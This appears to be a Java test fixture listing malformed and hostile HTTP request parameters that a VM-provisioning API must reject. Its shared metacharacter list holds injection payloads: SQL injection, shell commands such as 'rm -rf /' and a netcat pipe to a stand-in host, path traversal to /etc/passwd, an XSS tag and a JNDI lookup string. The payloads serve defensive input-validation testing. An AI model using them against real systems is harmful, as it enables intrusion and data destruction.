package org.datacapsule.router.http;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Requests whose parameters must be refused by name, whatever the database holds. */
public final class BadInputs {
    private static final List<String> METACHARACTERS = List.of(
            "' OR '1'='1",
            "x'; DROP TABLE capsule; --",
            "$(reboot)",
            "`id`",
            "; rm -rf /",
            "| nc evil 1",
            "a && b",
            "../../etc/passwd",
            "<script>alert(1)</script>",
            "${jndi:ldap://evil/a}",
            "%n%s",
            "a\0b",
            "a\nb",
            "é",
            "\u202eabc");

    private final String user;
    private final String operator;
    private final List<BadInput> inputs = new ArrayList<>();

    private BadInputs(TestIssuer issuer) {
        this.user = issuer.bearer();
        this.operator = issuer.bearer("operator");
    }

    /** Everything: tokens, parameters, and requests that are broken as such. */
    public static List<BadInput> all(TestIssuer issuer) {
        List<BadInput> all = new ArrayList<>(BadTokens.all(issuer));
        all.addAll(parameters(issuer));
        all.addAll(BadRequests.all(issuer));
        return List.copyOf(all);
    }

    static List<BadInput> parameters(TestIssuer issuer) {
        BadInputs table = new BadInputs(issuer);
        table.required();
        table.numbers();
        table.identifiers();
        table.logins();
        table.texts();
        table.choices();
        table.keys();
        table.duplicates();
        table.operators();
        return List.copyOf(table.inputs);
    }

    private void required() {
        for (String field : List.of("imageid", "loginusername", "loginpassword", "vcpu", "memory")) {
            Map<String, String> fields = RawRequest.createvm();
            fields.remove(field);
            post("no " + field, "/createvm", fields, field);
            create("empty", field, "");
        }
        for (String command : List.of("/launchvm", "/stopvm", "/deletevm")) {
            post("no vmid for " + command, command, Map.of(), "vmid");
            post("empty vmid for " + command, command, Map.of("vmid", ""), "vmid");
        }
        json("required is null", "/launchvm", "{\"vmid\":null}", "vmid");
        post("no pubkey", "/updateuserkey", Map.of(), "pubkey");
    }

    private void numbers() {
        for (String field : List.of("vcpu", "memory")) {
            for (String value : List.of(
                    "0",
                    "-1",
                    "1.5",
                    "1e1",
                    "abc",
                    "0x10",
                    "NaN",
                    " 2",
                    "2 ",
                    "+2",
                    "\u0662",
                    "2147483648",
                    "99999999999999999999",
                    "-0.0",
                    "1,000",
                    "true")) {
                create("whole number", field, value);
            }
            METACHARACTERS.forEach(value -> create("metacharacters", field, value));
        }
        create("too many", "vcpu", "65");
        create("too little", "memory", "127");
        create("too much", "memory", "1048577");
        for (String value :
                List.of("2.5", "1e400", "-1e-400", "true", "[2]", "{\"a\":2}", "\"two\"", "123456789012345678901")) {
            json("vcpu in JSON is " + value, "/createvm", jsonWith("vcpu", value), "vcpu");
        }
        for (String value : List.of("0", "1001", "-5", "all", "1.0")) {
            get("limit " + value, "/show?limit=" + value, user, "limit");
            get("limit of all capsules " + value, "/listvms?limit=" + value, operator, "limit");
        }
    }

    private void identifiers() {
        List<String> bad = new ArrayList<>(METACHARACTERS);
        bad.addAll(List.of(
                "1",
                "1-1-1-1-1",
                "694d1e94-4b3e-486a-9241-24fae8b7627",
                "694d1e94-4b3e-486a-9241-24fae8b762700",
                "{694d1e94-4b3e-486a-9241-24fae8b76270}",
                "urn:uuid:694d1e94-4b3e-486a-9241-24fae8b76270",
                "694d1e944b3e486a924124fae8b76270",
                "694d1e94-4b3e-486a-9241-24fae8b7627g",
                "694d1e94-4b3e-486a-9241-24fae8b76270\n",
                " 694d1e94-4b3e-486a-9241-24fae8b76270",
                "x".repeat(10_000)));
        for (String value : bad) {
            create("not a UUID", "imageid", value);
            for (String command : List.of("/launchvm", "/stopvm", "/deletevm", "/show")) {
                post(command + " of " + shown(value), command, Map.of("vmid", value), "vmid");
            }
        }
        get("operation id", "/v1/operations/42", user, "id");
        get("operation id with a quote", "/v1/operations/%27%20OR%201=1", user, "id");
        get("vmid in a query", "/show?vmid=42", user, "vmid");
        get("cursor", "/show?cursor=%27%3B--", user, "cursor");
        get("long cursor", "/show?cursor=" + "a".repeat(513), user, "cursor");
    }

    private void logins() {
        for (String value : List.of(
                "root",
                "sudo",
                "daemon",
                "docker",
                "Root",
                "DCUSER",
                "1user",
                "-user",
                "a b",
                "a.b",
                "a:b",
                "a@b",
                "a/b",
                "x".repeat(33),
                "dcuser\n",
                "dcuser\r",
                "dcuser ",
                "\u0430dmin")) {
            create("login name", "loginusername", value);
        }
        METACHARACTERS.forEach(value -> create("metacharacters", "loginusername", value));
        for (String value : List.of(
                "short12",
                "x".repeat(65),
                "pass word 1",
                "password\t",
                "password\n",
                "passw\0ord",
                "p\u00e4ssword1",
                "\ud83d\ude00password",
                "\u001bpassword")) {
            create("password", "loginpassword", value);
        }
    }

    private void texts() {
        for (String field : List.of("title", "vmName")) {
            for (String value : List.of("a\0b", "a\nb", "a\tb", "a\u001b[31mb", "a\u007fb", "a\u0085b", "trailing\n")) {
                create("control character", field, value);
            }
        }
        create("long", "title", "x".repeat(513));
        create("long", "vmName", "x".repeat(129));
        for (String field : List.of(
                "desc_nature",
                "desc_requirement",
                "desc_links",
                "desc_outside_data",
                "rr_data_files",
                "rr_result_usage")) {
            create("NUL", field, "a\0b");
            create("escape", field, "a\u001bb");
            create("long", field, "x".repeat(10_001));
            json(field + " has NUL in JSON", "/createvm", jsonWith(field, "\"a\\u0000b\""), field);
            json(field + " has half a surrogate", "/createvm", jsonWith(field, "\"\\ud800\""), field);
            json(field + " is a number", "/createvm", jsonWith(field, "7"), field);
            json(field + " is a list", "/createvm", jsonWith(field, "[\"a\"]"), field);
        }
    }

    private void choices() {
        for (String value : List.of("RESEARCH-FULL", "research", "Demo", "TEST", "DEMO ", "DEMO\n")) {
            create("type", "type", value);
        }
        METACHARACTERS.forEach(value -> create("metacharacters", "type", value));
        String vmid = "694d1e94-4b3e-486a-9241-24fae8b76270";
        post("no vmid for /switchvm", "/switchvm", Map.of("mode", "secure"), "vmid");
        post("no mode", "/switchvm", Map.of("vmid", vmid), "mode");
        List<String> modes = new ArrayList<>(METACHARACTERS);
        // The last two are ASCII words in the other case.
        modes.addAll(
                List.of("NOT_DEFINED", "secure ", "secure\n", "secure,maintenance", "ma\u0130ntenance", "\u017fecure"));
        modes.forEach(mode -> post("mode " + shown(mode), "/switchvm", Map.of("vmid", vmid, "mode", mode), "mode"));
        for (String field : List.of("consent", "full_access")) {
            for (String value : List.of("yes", "1", "0", "TRUE", "True", "on", "null", "true ", "' OR 1=1")) {
                create("truth value", field, value);
            }
        }
    }

    private void keys() {
        String key = "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl";
        for (String value : List.of(
                "ssh-ed25519",
                "ssh-ed25519 not*base64",
                "ssh-rsa " + key,
                "ssh-dss " + key,
                "ssh-ed25519 AAAA",
                "ssh-ed25519 " + key + "\nssh-ed25519 " + key,
                "ssh-ed25519 " + key + " a\0b",
                "command=\"id\" ssh-ed25519 " + key,
                "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEA",
                "ssh-ed25519 " + key + " " + "x".repeat(8192))) {
            post("pubkey " + shown(value), "/updateuserkey", Map.of("pubkey", value), "pubkey");
        }
        METACHARACTERS.forEach(
                value -> post("pubkey " + shown(value), "/updateuserkey", Map.of("pubkey", value), "pubkey"));
    }

    private void duplicates() {
        String one = "694d1e94-4b3e-486a-9241-24fae8b76270";
        String two = "b5be823e-409f-4d2c-8951-64c20b2c6452";
        Map<String, String> spelled = new LinkedHashMap<>();
        spelled.put("vmid", one);
        spelled.put("vmId", two);
        post("vmid and vmId differ", "/launchvm", spelled, "vmid");
        json("a name twice in JSON", "/launchvm", "{\"vmid\":\"" + one + "\",\"vmid\":\"" + two + "\"}", "vmid");
        get("vmid twice in a query", "/show?vmid=" + one + "&VMID=" + two, user, "vmid");
        RawRequest twice = RawRequest.body(
                "POST", "/launchvm", user, "application/x-www-form-urlencoded", "vmid=" + one + "&vmid=" + two);
        inputs.add(BadInput.field("vmid twice in a form", twice, "vmid"));
    }

    private void operators() {
        Map<String, String> image = Map.of("imageName", "ubuntu", "sha256", "e3b0");
        inputs.add(BadInput.field("short sha256", RawRequest.form("POST", "/v1/images", operator, image), "sha256"));
        inputs.add(BadInput.field(
                "upper-case sha256",
                RawRequest.form("POST", "/v1/images", operator, Map.of("imageName", "u", "sha256", "E".repeat(64))),
                "sha256"));
        inputs.add(BadInput.field(
                "no image name",
                RawRequest.form("POST", "/v1/images", operator, Map.of("sha256", "e".repeat(64))),
                "imageName"));
        for (String field : List.of("vcpus", "memoryMb", "diskGb")) {
            for (String value : List.of("-1", "many", "99999999999", "1.5")) {
                RawRequest put = RawRequest.form("PUT", "/v1/users/somebody/quota", operator, Map.of(field, value));
                inputs.add(BadInput.field("quota " + field + " " + value, put, field));
            }
        }
        get("guid with NUL", "/v1/users/a%00b/quota", operator, "guid");
        get("long guid", "/v1/users/" + "x".repeat(129) + "/quota", operator, "guid");
        RawRequest recover = RawRequest.form("POST", "/v1/capsules/42/recover", operator, Map.of());
        inputs.add(BadInput.field("recover no UUID", recover, "id"));
    }

    private void create(String what, String field, String value) {
        post(what + ": " + field + " is " + shown(value), "/createvm", RawRequest.createvm(field, value), field);
    }

    private void post(String name, String path, Map<String, String> fields, String field) {
        inputs.add(BadInput.field(name, RawRequest.form("POST", path, user, fields), field));
    }

    private void json(String name, String path, String body, String field) {
        inputs.add(BadInput.field(name, RawRequest.json(path, user, body), field));
    }

    private void get(String name, String target, String bearer, String field) {
        inputs.add(BadInput.field(name, RawRequest.get(target, bearer), field));
    }

    /** A createvm in JSON in which all is well but for one field. */
    private static String jsonWith(String field, String value) {
        StringBuilder json = new StringBuilder("{");
        RawRequest.createvm().forEach((name, good) -> {
            if (!name.equals(field)) {
                json.append('"').append(name).append("\":\"").append(good).append("\",");
            }
        });
        return json.append('"')
                .append(field)
                .append("\":")
                .append(value)
                .append('}')
                .toString();
    }

    private static String shown(String value) {
        return ShownValue.of(value);
    }
}
